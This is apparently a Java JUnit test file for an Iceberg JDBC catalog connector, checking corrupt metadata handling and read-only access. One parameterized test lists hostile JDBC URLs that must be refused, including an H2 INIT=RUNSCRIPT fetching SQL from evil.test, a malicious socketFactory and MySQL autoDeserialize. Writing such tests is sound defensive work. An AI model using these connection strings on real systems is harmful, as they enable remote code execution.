package dev.lakewarden.connectors.iceberg;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.lakewarden.governance.connections.ConnectionId;
import dev.lakewarden.governance.connections.OpenConnection;
import dev.lakewarden.governance.connections.ResolvedSettings;
import dev.lakewarden.governance.failure.ConnectorException;
import dev.lakewarden.governance.failure.Failure;
import dev.lakewarden.governance.tables.TableName;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.Optional;

class IcebergJdbcCatalogTest extends IcebergContract {
    private final IcebergJdbcProvider provider = new IcebergJdbcProvider();
    private Optional<Lake> lake = Optional.empty();

    @BeforeEach
    void open(@TempDir Path home) {
        lake = Optional.of(new Lake(home));
        open(provider, at(lake().uri()));
    }

    @Override
    protected Lake lake() {
        return lake.orElseThrow();
    }

    @Override
    protected void spoil(TableName name) {
        lake().garbleMetadata(name);
    }

    private static ResolvedSettings at(String uri) {
        return new ResolvedSettings("shop", Map.of("uri", uri));
    }

    @Test
    void metadataThatIsGoneIsCorruptToo() {
        createNamespace("sales");
        TableName name = TableName.of("sales.orders");
        createTable(name);
        lake().loseMetadata(name);
        assertThatThrownBy(() -> lakeState(name))
                .isInstanceOfSatisfying(
                        ConnectorException.class,
                        e -> assertThat(e.failure()).isInstanceOf(Failure.Corrupt.class));
    }

    private Object lakeState(TableName name) {
        return catalog().load(ConnectionId.random(), name);
    }

    @Test
    void aMissingCatalogFileIsMissingAndNotCreated(@TempDir Path elsewhere) {
        Path file = elsewhere.resolve("none.db");
        assertThat(failureAt("jdbc:sqlite:" + file)).isInstanceOf(Failure.Missing.class);
        assertThat(file).doesNotExist();
    }

    @Test
    void aDatabaseWithoutACatalogIsSaidAndStaysWithoutOne(@TempDir Path elsewhere)
            throws IOException {
        Path file = elsewhere.resolve("empty.db");
        Files.createFile(file);
        try (OpenConnection open = provider.openForReading(at("jdbc:sqlite:" + file))) {
            assertThatThrownBy(() -> open.tables().orElseThrow().findNamespaces())
                    .isInstanceOfSatisfying(
                            ConnectorException.class,
                            e -> assertThat(e.failure()).isInstanceOf(Failure.Missing.class));
        }
        assertThat(file).isEmptyFile();
    }

    @Test
    void aCatalogOfTheOlderLayoutIsReadAndNeverAltered(@TempDir Path old) throws IOException {
        try (Lake older = new Lake(old, "V0")) {
            older.createNamespace("sales");
            older.createTable(TableName.of("sales.orders"));
            byte[] before = Files.readAllBytes(older.database());
            try (OpenConnection open = provider.openForReading(at(older.uri()));
                    OpenConnection changing = provider.openForChanges(at(older.uri()))) {
                assertThat(open.tables().orElseThrow().findTables("sales")).hasSize(1);
                assertThat(changing.tables().orElseThrow().findTables("sales")).hasSize(1);
            }
            assertThat(Files.readAllBytes(older.database())).isEqualTo(before);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:sqlite:/tmp/x.db?open_mode=6",
                "jdbc:sqlite:file:/tmp/x.db?mode=rwc",
                "jdbc:sqlite::resource:http://evil.test/x.db",
                "jdbc:sqlite::memory:",
                "jdbc:sqlite:relative.db",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.test/x.sql'",
                "jdbc:postgresql://db.test/x?socketFactory=org.evil.Factory",
                "jdbc:mysql://db.test/x?autoDeserialize=true",
                "postgresql://db.test/x"
            })
    void anAddressThatCouldDoMoreThanReadIsNotOpened(String uri) {
        assertThat(failureAt(uri)).isInstanceOfAny(Failure.Invalid.class, Failure.Refused.class);
    }

    @Test
    void aDatabaseWithoutADriverIsSaid() {
        assertThat(failureAt("jdbc:postgresql://localhost:1/none"))
                .isInstanceOf(Failure.Unsupported.class);
    }

    private Failure failureAt(String uri) {
        try (OpenConnection open = provider.openForReading(at(uri))) {
            throw new AssertionError("opened " + open);
        } catch (ConnectorException e) {
            return e.failure();
        }
    }
}
